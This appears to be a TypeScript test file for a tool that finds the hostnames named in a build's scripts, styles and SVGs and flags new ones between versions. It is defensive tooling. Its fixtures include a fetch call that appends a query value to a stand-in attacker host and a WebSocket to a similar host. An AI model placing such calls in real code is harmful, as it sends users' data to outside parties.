import { namedHosts, newHosts } from './review';

const files = (texts: Record<string, string>) =>
  new Map(Object.entries(texts).map(([path, text]) => [path, Buffer.from(text)]));

test('hosts are found in scripts, styles and drawings, of pages and of the server, once each', () => {
  const found = namedHosts(
    files({
      'client/page.js': 'fetch("https://Api.Evil.test/v1?q="+q);new WebSocket("wss://live.evil.test:8443")',
      'client/page.css': '.a{background:url(//cdn.evil.test/a.png)}',
      'client/icon.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
      'server/remote-entry.js': "const a = 'https://api.evil.test'; // see https://react.dev/errors",
    }),
  );
  expect(found).toEqual(['api.evil.test', 'cdn.evil.test', 'live.evil.test', 'react.dev', 'www.w3.org']);
});

test.each([
  ['a comment', 'a = 1; //evil.test'],
  ['a division', 'x = a//b.c'],
  ['an address without a host', 'https:// and https://localhost and https://${host}/'],
  ['a source map, which ships nowhere', undefined],
])('%s names none', (_, text) => {
  expect(
    namedHosts(
      files(text === undefined ? { 'client/a.js.map': 'https://evil.test' } : { 'client/a.js': text }),
    ),
  ).toEqual([]);
});

test('new are those that the version before does not name, and none when that is not known', () => {
  expect(newHosts(['a.test', 'b.test'], ['a.test'])).toEqual(['b.test']);
  expect(newHosts(['a.test'], undefined)).toEqual([]);
});
